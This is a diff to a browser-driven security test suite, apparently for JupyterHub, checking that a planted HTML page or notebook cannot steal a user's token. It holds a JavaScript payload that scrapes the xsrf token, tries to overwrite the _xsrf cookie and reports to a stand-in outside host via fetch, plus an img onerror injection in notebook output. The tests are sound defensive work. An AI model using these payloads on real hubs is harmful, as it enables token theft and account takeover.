@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Callable
+from html import escape
 
 import pytest
 from playwright.sync_api import Frame, expect
@@ -139,26 +141,31 @@ def test_a_script_in_the_hubs_page_steals_no_token(
     assert elsewhere.told("token") == []
 
 
-# -- A page among somebody's files -------------------------------------------------------------------------------------
+# -- What somebody was sent, in their own home -------------------------------------------------------------------------
 
-PAGE = """<!doctype html><title>A notebook that you were sent</title><script>
-    const tell = (name, value) => fetch("{place}/?" + name + "=" + encodeURIComponent(value), {{mode: "no-cors"}});
-    const known = (text) => {{ window.jhdata = {{xsrf_token: text.match(/xsrf_token: "([^"]+)"/)[1]}}; }};
-    (async () => {{
-        try {{ document.cookie = "_xsrf=tossed; path=/hub/"; }}
-        catch (error) {{ await tell("refused", error.name); }}
-        try {{ known(await (await fetch("{url}/hub/home", {{credentials: "include"}})).text()); await {code}; }}
-        finally {{ await tell("done", 1); }}
-    }})();
-</script>"""
+AS_THE_USER = """(async () => {{
+    const tell = (name, value) => fetch("{place}/?" + name + "=" + value, {{mode: "no-cors"}});
+    try {{ document.cookie = "_xsrf=tossed; path=/hub/"; }}
+    catch (error) {{ await tell("refused", error.name); }}
+    try {{
+        const home = await (await fetch("{url}/hub/home", {{credentials: "include"}})).text();
+        window.jhdata = {{xsrf_token: home.match(/xsrf_token: "([^"]+)"/)[1]}};
+        await {steal};
+    }} finally {{ await tell("done", 1); }}
+}})()"""
+"""Does as the hub's own page does, from a page of the same origin."""
+
+
+def as_the_user(elsewhere: Elsewhere, of: Insider) -> str:
+    """Return a script that steals a token."""
+    steal = STEAL.format(user=of.api_path, place=elsewhere.same_site)
+    return AS_THE_USER.format(place=elsewhere.same_site, url=of.url, steal=steal)
 
 
 def open_file(victim: Researcher, elsewhere: Elsewhere, of: Insider) -> None:
-    """Let the victim open a page that steals a token, with a click on a file in their own home."""
-    code = STEAL.format(user=of.api_path, place=elsewhere.same_site)
-    saved = of.write("sent.html", PAGE.format(place=elsewhere.same_site, url=of.url, code=code))
-    assert saved.status_code in {200, 201}, saved.text
-    elsewhere.asked.clear()
+    """Let the victim open a page with that script, which lies among their files."""
+    page = f"<!doctype html><title>A prize</title><script>{as_the_user(elsewhere, of)}</script>"
+    assert of.write("sent.html", page).status_code in {200, 201}
     victim.visit(f"{of.path}/files/sent.html")
     wait_until("it has done what it can", lambda: elsewhere.told("done"))
 
@@ -170,4 +177,29 @@ def test_a_page_among_the_files_is_no_page_of_the_hub(enter: Enter, elsewhere: E
     assert elsewhere.told("refused") == ["SecurityError"]
     assert "tossed" not in [item.get("value") for item in victim.page.context.cookies()]
     assert elsewhere.told("token") == []
+    assert tokens(alice) == before
+
+
+def send_notebook(elsewhere: Elsewhere, of: Insider) -> None:
+    """Put a notebook whose output has that script among somebody's files."""
+    output = f'<p>A prize is in this notebook<img src="data:," onerror="{escape(as_the_user(elsewhere, of))}"></p>'
+    shown = {"output_type": "display_data", "data": {"text/html": output}, "metadata": {}}
+    cell = {"cell_type": "code", "source": "", "outputs": [shown], "execution_count": 1, "metadata": {}, "id": "sent"}
+    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+    assert of.write("sent.ipynb", json.dumps(book)).status_code in {200, 201}
+
+
+def open_notebook(victim: Researcher) -> None:
+    """Let the victim open it, and wait until its output is shown."""
+    victim.visit(f"{victim.path}/lab/tree/sent.ipynb")
+    expect(victim.page.get_by_text("A prize is in this notebook")).to_be_visible()
+
+
+def test_a_notebook_that_somebody_was_sent_runs_nothing(enter: Enter, elsewhere: Elsewhere, alice: Insider) -> None:
+    victim = enter()
+    before = tokens(alice)
+    send_notebook(elsewhere, alice)
+    open_notebook(victim)
+    expect(victim.page.locator("[onerror]")).to_have_count(0)
+    assert elsewhere.asked == []
     assert tokens(alice) == before
